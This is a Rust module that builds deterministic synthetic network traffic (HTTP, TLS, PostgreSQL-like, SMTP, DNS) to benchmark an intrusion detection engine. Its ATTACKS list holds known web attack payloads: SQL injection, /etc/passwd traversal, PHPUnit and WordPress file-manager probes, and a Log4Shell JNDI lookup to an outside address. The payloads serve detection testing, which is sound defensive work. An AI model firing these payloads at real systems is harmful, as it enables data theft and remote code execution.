//! Deterministic, realistic HTTP/1.1 traffic for the scan benchmark: browsers and API
//! clients fetching pages, scripts, images and JSON over keep-alive connections, with a few
//! attacks mixed in. The same traffic is written as a pcap for Suricata
//! (`ids-corpus bench`), so both engines scan identical bytes.

/// One request and its response, as sent on the wire.
pub(crate) struct Exchange {
    pub(crate) request: Vec<u8>,
    pub(crate) response: Vec<u8>,
}

/// Requests per keep-alive connection.
pub(crate) const PER_CONNECTION: usize = 8;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

const HOSTS: &[&str] = &[
    "shop.internal.example",
    "api.internal.example",
    "intranet.corp.example",
    "static.internal.example",
    "hr.corp.example",
];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
];
const WORDS: &[&str] = &[
    "order",
    "customer",
    "invoice",
    "product",
    "report",
    "quarter",
    "revenue",
    "account",
    "shipping",
    "warehouse",
    "payroll",
    "employee",
    "calendar",
    "meeting",
    "project",
    "status",
    "the",
    "and",
    "with",
    "for",
    "from",
    "update",
    "total",
    "price",
    "description",
    "available",
];
const ATTACKS: &[&str] = &[
    "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/download.php?file=../../../../etc/passwd",
];

fn words(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| rng.pick(WORDS))
        .collect::<Vec<_>>()
        .join(" ")
}

fn html(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>");
    out.push_str(&words(rng, 4));
    out.push_str("</title><link rel=\"stylesheet\" href=\"/static/css/site.css\"></head><body><div class=\"container\">");
    while out.len() < size {
        match rng.below(4) {
            0 => out.push_str(&format!("<h2>{}</h2>", words(rng, 3))),
            1 => out.push_str(&format!("<p>{}.</p>", words(rng, 24))),
            2 => out.push_str(&format!(
                "<a href=\"/{}/{}\">{}</a>",
                rng.pick(WORDS),
                rng.below(10000),
                words(rng, 2)
            )),
            _ => out.push_str(&format!(
                "<tr><td>{}</td><td>{}.{:02}</td></tr>",
                rng.pick(WORDS),
                rng.below(1000),
                rng.below(100)
            )),
        }
    }
    out.push_str("</div><script src=\"/static/js/app.js\"></script></body></html>");
    out.into_bytes()
}

fn json(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("{\"items\":[");
    let mut first = true;
    while out.len() < size {
        if !first {
            out.push(',');
        }
        first = false;
        out.push_str(&format!(
            "{{\"id\":{},\"name\":\"{}\",\"price\":{}.{:02},\"tags\":[\"{}\",\"{}\"]}}",
            rng.below(1_000_000),
            words(rng, 2),
            rng.below(500),
            rng.below(100),
            rng.pick(WORDS),
            rng.pick(WORDS)
        ));
    }
    out.push_str("]}");
    out.into_bytes()
}

fn script(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = String::from("\"use strict\";(function(){");
    while out.len() < size {
        out.push_str(&format!(
            "function {}_{}(a,b){{var c=a.{}(b);return c&&c.length>{}?c.slice(0,{}):null}}",
            rng.pick(WORDS),
            rng.below(1000),
            rng.pick(WORDS),
            rng.below(64),
            rng.below(64)
        ));
    }
    out.push_str("})();");
    out.into_bytes()
}

fn binary(rng: &mut Rng, size: usize) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    while out.len() < size {
        out.extend_from_slice(&rng.next().to_le_bytes());
    }
    out
}

/// `count` exchanges, the same every time.
pub(crate) fn exchanges(count: usize) -> Vec<Exchange> {
    let mut rng = Rng(0x5EED_1D5F_00D5_CAFE);
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let host = rng.pick(HOSTS);
        let ua = rng.pick(UAS);
        let attack = i % 97 == 13;
        let kind = rng.below(10);
        let (method, target, body, ctype, resp_body): (&str, String, Vec<u8>, &str, Vec<u8>) =
            if attack {
                let a = rng.pick(ATTACKS);
                (
                    "GET",
                    a.to_string(),
                    Vec::new(),
                    "text/html",
                    html(&mut rng, 800),
                )
            } else {
                match kind {
                    0..=2 => {
                        let path = format!("/{}/{}", rng.pick(WORDS), rng.below(100_000));
                        let size = 2000 + rng.below(30_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "text/html; charset=utf-8",
                            html(&mut rng, size),
                        )
                    }
                    3..=4 => {
                        let path = format!(
                            "/api/v2/{}s?page={}&limit=50&sort={}",
                            rng.pick(WORDS),
                            rng.below(40),
                            rng.pick(WORDS)
                        );
                        let size = 500 + rng.below(12_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "application/json",
                            json(&mut rng, size),
                        )
                    }
                    5 => {
                        let path = format!(
                            "/static/js/{}.{:x}.js",
                            rng.pick(WORDS),
                            rng.next() & 0xffff_ffff
                        );
                        let size = 4000 + rng.below(40_000);
                        (
                            "GET",
                            path,
                            Vec::new(),
                            "application/javascript",
                            script(&mut rng, size),
                        )
                    }
                    6 => {
                        let path = format!("/images/{}-{}.png", rng.pick(WORDS), rng.below(500));
                        let size = 1000 + rng.below(20_000);
                        ("GET", path, Vec::new(), "image/png", binary(&mut rng, size))
                    }
                    7..=8 => {
                        let path = format!("/api/v2/{}s", rng.pick(WORDS));
                        let size = 100 + rng.below(1500);
                        let body = json(&mut rng, size);
                        ("POST", path, body, "application/json", json(&mut rng, 200))
                    }
                    _ => {
                        let body = format!(
                            "username={}&password={}{}&remember=on",
                            rng.pick(WORDS),
                            rng.pick(WORDS),
                            rng.below(9999)
                        )
                        .into_bytes();
                        (
                            "POST",
                            "/login".to_string(),
                            body,
                            "text/html",
                            html(&mut rng, 1500),
                        )
                    }
                }
            };
        let mut req = format!(
            "{method} {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: text/html,application/xhtml+xml,application/json;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nReferer: https://{host}/{}\r\nCookie: session={:016x}; theme=light\r\nConnection: keep-alive\r\n",
            rng.pick(WORDS),
            rng.next()
        );
        if !body.is_empty() {
            let ct = if body.starts_with(b"{") {
                "application/json"
            } else {
                "application/x-www-form-urlencoded"
            };
            req.push_str(&format!(
                "Content-Type: {ct}\r\nContent-Length: {}\r\n",
                body.len()
            ));
        }
        req.push_str("\r\n");
        let mut request = req.into_bytes();
        request.extend_from_slice(&body);
        let mut response = format!(
            "HTTP/1.1 200 OK\r\nDate: Tue, 14 Nov 2023 22:13:20 GMT\r\nServer: nginx/1.24.0\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nCache-Control: max-age=60\r\nETag: \"{:08x}\"\r\nConnection: keep-alive\r\n\r\n",
            resp_body.len(),
            rng.next() & 0xffff_ffff
        )
        .into_bytes();
        response.extend_from_slice(&resp_body);
        out.push(Exchange { request, response });
    }
    out
}

/// The exchanges the benchmark scans.
pub(crate) const BENCH_EXCHANGES: usize = 2400;

/// The shapes of traffic the benchmark scans.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shape {
    /// Pages, API calls, scripts, images and logins over keep-alive connections
    /// ([`exchanges`]): about 26 MB.
    Web,
    /// Large transfers: downloads of 1 to 4 MiB and uploads of 256 KiB to 1 MiB, two per
    /// connection ([`bulk_exchanges`]): about 98 MB, most of it past what is inspected.
    Bulk,
    /// What one host of a private cloud carries east-west ([`mixed_flows`]): web pages and
    /// API calls, TLS connections, a database protocol, mail and DNS over UDP: about 36 MB.
    Mixed,
}

impl Shape {
    /// As the benchmark names it.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Shape::Web => "web",
            Shape::Bulk => "bulk",
            Shape::Mixed => "mixed",
        }
    }

    /// Its flows, the same every time.
    pub(crate) fn flows(self) -> Vec<Flow> {
        match self {
            Shape::Web => http_flows(exchanges(BENCH_EXCHANGES), PER_CONNECTION),
            Shape::Bulk => http_flows(bulk_exchanges(48), 2),
            Shape::Mixed => mixed_flows(),
        }
    }
}

/// What a flow carries, which says how the node hands it to the inspector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Carries {
    /// HTTP/1.1 (the node's L7 layer parses it): turns alternate request, response.
    Http,
    /// TLS: a TLS 1.2 handshake with the server's certificate, then application data.
    Tls,
    /// SMTP, recognised by the inspector from the client's first command.
    Smtp,
    /// A protocol no rule names (a database's): raw stream only.
    Opaque,
    /// DNS over UDP: each turn is one datagram.
    DnsUdp,
}

/// One connection (or UDP session) of the benchmark traffic.
pub(crate) struct Flow {
    pub(crate) carries: Carries,
    /// The server's port.
    pub(crate) port: u16,
    /// What each side sends, in order: (from the client, bytes).
    pub(crate) turns: Vec<(bool, Vec<u8>)>,
}

impl Flow {
    /// Bytes of payload both ways.
    pub(crate) fn bytes(&self) -> usize {
        self.turns.iter().map(|(_, b)| b.len()).sum()
    }
}

/// Keep-alive HTTP connections of `per_connection` exchanges each.
fn http_flows(exchanges: Vec<Exchange>, per_connection: usize) -> Vec<Flow> {
    let mut flows = Vec::new();
    let mut it = exchanges.into_iter().peekable();
    while it.peek().is_some() {
        let turns = it
            .by_ref()
            .take(per_connection)
            .flat_map(|e| [(true, e.request), (false, e.response)])
            .collect();
        flows.push(Flow {
            carries: Carries::Http,
            port: 80,
            turns,
        });
    }
    flows
}

/// TLS records of `kind` carrying `data` (at most 16 KiB each).
fn tls_records(kind: u8, data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() + data.len() / 16_384 * 5 + 5);
    for piece in data.chunks(16_384) {
        out.extend_from_slice(&[kind, 3, 3]);
        out.extend_from_slice(&(piece.len() as u16).to_be_bytes());
        out.extend_from_slice(piece);
    }
    out
}

/// A TLS 1.2 connection: the handshake in clear up to the server's certificate, the
/// finishing messages, then `exchanges` requests and answers as application data.
fn tls_flow(rng: &mut Rng, cert: &[u8], seed: u8, exchanges: usize) -> Flow {
    let sni = rng.pick(HOSTS);
    let mut turns = vec![
        (true, client_hello(sni, seed)),
        (false, server_flight(&[cert.to_vec()], seed)),
    ];
    // ClientKeyExchange, ChangeCipherSpec and the encrypted Finished; the server's reply.
    let mut finish = tls_records(22, &binary(rng, 70));
    finish.extend(tls_records(20, &[1]));
    finish.extend(tls_records(22, &binary(rng, 40)));
    turns.push((true, finish));
    let mut reply = tls_records(20, &[1]);
    reply.extend(tls_records(22, &binary(rng, 40)));
    turns.push((false, reply));
    for _ in 0..exchanges {
        let ask = 200 + rng.below(1800);
        let answer = 2_000 + rng.below(60_000);
        turns.push((true, tls_records(23, &binary(rng, ask))));
        turns.push((false, tls_records(23, &binary(rng, answer))));
    }
    Flow {
        carries: Carries::Tls,
        port: 443,
        turns,
    }
}

/// A PostgreSQL-like session: a start-up message, then queries in text and rows in a
/// binary framing with text columns.
fn database_flow(rng: &mut Rng, exchanges: usize) -> Flow {
    let message = |kind: u8, body: &[u8]| {
        let mut m = vec![kind];
        m.extend_from_slice(&((body.len() + 4) as u32).to_be_bytes());
        m.extend_from_slice(body);
        m
    };
    let mut startup = 196_608u32.to_be_bytes().to_vec();
    startup.extend_from_slice(b"user\0app\0database\0orders\0\0");
    let mut first = ((startup.len() + 4) as u32).to_be_bytes().to_vec();
    first.extend(startup);
    let mut turns = vec![(true, first), (false, message(b'R', &[0, 0, 0, 0]))];
    for _ in 0..exchanges {
        let query = format!(
            "SELECT id, {}, {}, updated_at FROM {}s WHERE {}_id = {} ORDER BY id LIMIT {}\0",
            rng.pick(WORDS),
            rng.pick(WORDS),
            rng.pick(WORDS),
            rng.pick(WORDS),
            rng.below(1_000_000),
            10 + rng.below(500)
        );
        turns.push((true, message(b'Q', query.as_bytes())));
        let mut rows = Vec::new();
        let want = 1_000 + rng.below(40_000);
        while rows.len() < want {
            let mut row = 4u16.to_be_bytes().to_vec();
            for col in [
                format!("{}", rng.below(1_000_000)),
                words(rng, 3),
                words(rng, 8),
                "2023-11-14 22:13:20+00".to_string(),
            ] {
                row.extend_from_slice(&(col.len() as u32).to_be_bytes());
                row.extend_from_slice(col.as_bytes());
            }
            rows.extend(message(b'D', &row));
        }
        rows.extend(message(b'C', b"SELECT 50\0"));
        rows.extend(message(b'Z', b"I"));
        turns.push((false, rows));
    }
    Flow {
        carries: Carries::Opaque,
        port: 5432,
        turns,
    }
}

/// A mail with a text part and a base64 attachment, sent over SMTP.
fn mail_flow(rng: &mut Rng) -> Flow {
    use base64::Engine as _;
    let size = 8_000 + rng.below(120_000);
    let attachment = binary(rng, size);
    let mut b64 = String::new();
    for line in attachment.chunks(57) {
        b64.push_str(&base64::engine::general_purpose::STANDARD.encode(line));
        b64.push_str("\r\n");
    }
    let mail = format!(
        "From: {} <{}@corp.example>\r\nTo: {}@corp.example\r\nSubject: {} {}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{}\r\n--b1\r\nContent-Type: application/pdf; name=\"{}.pdf\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"{}.pdf\"\r\n\r\n{b64}--b1--",
        rng.pick(WORDS),
        rng.pick(WORDS),
        rng.pick(WORDS),
        rng.pick(WORDS),
        rng.pick(WORDS),
        words(rng, 120),
        rng.pick(WORDS),
        rng.pick(WORDS),
    );
    Flow {
        carries: Carries::Smtp,
        port: 25,
        turns: smtp_session(None, mail.as_bytes()),
    }
}

/// A DNS lookup over UDP: the query and its answer.
fn dns_flow(rng: &mut Rng, id: u16) -> Flow {
    let name = format!("{}-{}.{}", rng.pick(WORDS), rng.below(50), rng.pick(HOSTS));
    let query = dns_query(&name, id)[2..].to_vec();
    let answer = dns_response(&dns_query(&name, id))[2..].to_vec();
    Flow {
        carries: Carries::DnsUdp,
        port: 53,
        turns: vec![(true, query), (false, answer)],
    }
}

/// The mixed shape: 150 keep-alive HTTP connections (1,200 exchanges), 60 TLS
/// connections, 40 database sessions, 20 mails and 400 DNS lookups, interleaved.
pub(crate) fn mixed_flows() -> Vec<Flow> {
    let mut rng = Rng(0x313D_F10E_5EED_0003);
    let cert = certificate("shop.internal.example", "Internal", &[0x42]);
    let mut flows = http_flows(exchanges(1_200), PER_CONNECTION);
    for i in 0..60 {
        flows.push(tls_flow(&mut rng, &cert, i as u8, 6));
    }
    for _ in 0..40 {
        flows.push(database_flow(&mut rng, 10));
    }
    for _ in 0..20 {
        flows.push(mail_flow(&mut rng));
    }
    for i in 0..400 {
        flows.push(dns_flow(&mut rng, 0x2000 + i as u16));
    }
    // Interleaved as a host sees them (Fisher-Yates with the same seed every time).
    for i in (1..flows.len()).rev() {
        let j = rng.below(i + 1);
        flows.swap(i, j);
    }
    flows
}

/// `count` large transfers, the same every time: three downloads of binary files for one
/// upload of a form with a file.
pub(crate) fn bulk_exchanges(count: usize) -> Vec<Exchange> {
    let mut rng = Rng(0xB01C_DA7A_5EED_0001);
    (0..count)
        .map(|i| {
            let host = rng.pick(HOSTS);
            let ua = rng.pick(UAS);
            let (request, body) = if i % 4 == 3 {
                let size = 256 * 1024 + rng.below(768 * 1024);
                let body = binary(&mut rng, size);
                let head = format!(
                    "POST /upload/{} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
                    rng.pick(WORDS),
                    body.len()
                );
                ([head.into_bytes(), body].concat(), b"{\"stored\":true}".to_vec())
            } else {
                let head = format!(
                    "GET /downloads/{}-{}.bin HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n",
                    rng.pick(WORDS),
                    rng.below(1000)
                );
                let size = 1024 * 1024 + rng.below(3 * 1024 * 1024);
                (head.into_bytes(), binary(&mut rng, size))
            };
            let ctype = if i % 4 == 3 {
                "application/json"
            } else {
                "application/octet-stream"
            };
            let mut response = format!(
                "HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: keep-alive\r\n\r\n",
                body.len()
            )
            .into_bytes();
            response.extend_from_slice(&body);
            Exchange { request, response }
        })
        .collect()
}

/// A ClientHello record carrying `sni`.
pub(crate) fn client_hello(sni: &str, seed: u8) -> Vec<u8> {
    let mut ext = Vec::new();
    let name = sni.as_bytes();
    let mut sn = Vec::new();
    sn.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
    sn.push(0);
    sn.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sn.extend_from_slice(name);
    ext.extend_from_slice(&[0, 0]);
    ext.extend_from_slice(&(sn.len() as u16).to_be_bytes());
    ext.extend_from_slice(&sn);
    // supported_groups, ec_point_formats, signature_algorithms, supported_versions.
    ext.extend_from_slice(&[0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x1d, 0x00, 0x17]);
    ext.extend_from_slice(&[0x00, 0x0b, 0x00, 0x02, 0x01, 0x00]);
    ext.extend_from_slice(&[
        0x00, 0x0d, 0x00, 0x08, 0x00, 0x06, 0x04, 0x03, 0x08, 0x04, 0x04, 0x01,
    ]);
    ext.extend_from_slice(&[0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03, 0x03]);
    let mut hello = vec![0x03, 0x03];
    hello.extend((0..32u8).map(|i| i.wrapping_mul(31).wrapping_add(seed)));
    hello.push(32);
    hello.extend((0..32u8).map(|i| i.wrapping_mul(17) ^ seed));
    hello.extend_from_slice(&[0x00, 0x06, 0x13, 0x01, 0x13, 0x02, 0xc0, 0x2f]);
    hello.extend_from_slice(&[0x01, 0x00]);
    hello.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    hello.extend_from_slice(&ext);
    let mut hs = vec![0x01];
    hs.extend_from_slice(&(hello.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&hello);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

/// A fixed Ed25519 key (its signatures are deterministic, so the corpus is too).
const CERT_KEY: &str = "-----BEGIN PRIVATE KEY-----
MC4CAQAwBQYDK2VwBCIEIOveFelGk+vr3A8TBGwmc8leL8+eVply/Cmk1ETGd9uy
-----END PRIVATE KEY-----
";

/// A certificate for `cn` in organization `org`, serial `serial`, issued by itself.
pub(crate) fn certificate(cn: &str, org: &str, serial: &[u8]) -> Vec<u8> {
    let mut p = rcgen::CertificateParams::new(vec![cn.to_owned()]).expect("params");
    p.distinguished_name = rcgen::DistinguishedName::new();
    p.distinguished_name.push(rcgen::DnType::CountryName, "US");
    p.distinguished_name
        .push(rcgen::DnType::OrganizationName, org);
    p.distinguished_name.push(rcgen::DnType::CommonName, cn);
    p.serial_number = Some(rcgen::SerialNumber::from_slice(serial));
    p.not_before = rcgen::date_time_ymd(2024, 1, 1);
    p.not_after = rcgen::date_time_ymd(2034, 1, 1);
    let key = rcgen::KeyPair::from_pem(CERT_KEY).expect("key");
    p.self_signed(&key).expect("certificate").der().to_vec()
}

/// A TLS 1.2 server's first flight: ServerHello, Certificate with `certs`, ServerHelloDone.
pub(crate) fn server_flight(certs: &[Vec<u8>], seed: u8) -> Vec<u8> {
    server_flight_of(0x0303, 0xc02f, &[(0xff01, vec![0])], certs, seed)
}

/// A server's first flight: ServerHello of `version` choosing `cipher`, with `extensions`;
/// then, with certificates, Certificate and ServerHelloDone, else (TLS 1.3) a
/// ChangeCipherSpec and an encrypted record.
pub(crate) fn server_flight_of(
    version: u16,
    cipher: u16,
    extensions: &[(u16, Vec<u8>)],
    certs: &[Vec<u8>],
    seed: u8,
) -> Vec<u8> {
    let mut hello = version.to_be_bytes().to_vec();
    hello.extend((0..32u8).map(|i| i.wrapping_mul(13).wrapping_add(seed)));
    hello.push(0);
    hello.extend_from_slice(&cipher.to_be_bytes());
    hello.push(0);
    let mut exts = Vec::new();
    for (kind, data) in extensions {
        exts.extend_from_slice(&kind.to_be_bytes());
        exts.extend_from_slice(&(data.len() as u16).to_be_bytes());
        exts.extend_from_slice(data);
    }
    if !extensions.is_empty() {
        hello.extend_from_slice(&(exts.len() as u16).to_be_bytes());
        hello.extend(exts);
    }
    let record_version = version.min(0x0303).to_be_bytes();
    let record = |out: &mut Vec<u8>, kind: u8, msg: &[u8]| {
        out.extend_from_slice(&[kind, record_version[0], record_version[1]]);
        out.extend_from_slice(&(msg.len() as u16).to_be_bytes());
        out.extend_from_slice(msg);
    };
    let message = |kind: u8, body: &[u8]| {
        let mut msg = vec![kind];
        msg.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
        msg.extend_from_slice(body);
        msg
    };
    let mut out = Vec::new();
    record(&mut out, 22, &message(2, &hello));
    if certs.is_empty() {
        record(&mut out, 20, &[1]);
        record(&mut out, 23, &[0x33; 64]);
        return out;
    }
    let mut list = Vec::new();
    for c in certs {
        list.extend_from_slice(&(c.len() as u32).to_be_bytes()[1..]);
        list.extend_from_slice(c);
    }
    let mut cert_body = (list.len() as u32).to_be_bytes()[1..].to_vec();
    cert_body.extend(list);
    record(&mut out, 22, &message(11, &cert_body));
    record(&mut out, 22, &message(14, &[]));
    out
}

/// A DNS query for `name`, framed for TCP.
pub(crate) fn dns_query(name: &str, id: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.').filter(|l| !l.is_empty()) {
        m.push(label.len().min(63) as u8);
        m.extend_from_slice(&label.as_bytes()[..label.len().min(63)]);
    }
    m.extend_from_slice(&[0, 0, 1, 0, 1]);
    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&m);
    framed
}

pub(crate) fn dns_response(query: &[u8]) -> Vec<u8> {
    let mut m = query[2..].to_vec();
    m[2] = 0x81;
    m[3] = 0x83; // NXDOMAIN
    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&m);
    framed
}

/// A command session (SMTP or FTP): the server's banner, then (client, server) turns.
pub(crate) type Session = Vec<(bool, Vec<u8>)>;

/// An SMTP session whose mail carries `data` (and, with `extra`, one more client turn
/// before the mail).
pub(crate) fn smtp_session(extra: Option<Vec<u8>>, data: &[u8]) -> Session {
    let mut s: Session = vec![
        (false, b"220 mail.example ESMTP Postfix\r\n".to_vec()),
        (true, b"EHLO client.example\r\n".to_vec()),
        (false, b"250-mail.example\r\n250 8BITMIME\r\n".to_vec()),
    ];
    if let Some(e) = extra {
        s.push((true, e));
        s.push((false, b"250 OK\r\n".to_vec()));
    }
    s.extend([
        (true, b"MAIL FROM:<alice@client.example>\r\n".to_vec()),
        (false, b"250 OK\r\n".to_vec()),
        (true, b"RCPT TO:<bob@mail.example>\r\n".to_vec()),
        (false, b"250 OK\r\n".to_vec()),
        (true, b"DATA\r\n".to_vec()),
        (false, b"354 End data with <CR><LF>.<CR><LF>\r\n".to_vec()),
        (true, [data, b"\r\n.\r\n"].concat()),
        (false, b"250 OK queued\r\n".to_vec()),
        (true, b"QUIT\r\n".to_vec()),
        (false, b"221 Bye\r\n".to_vec()),
    ]);
    s
}
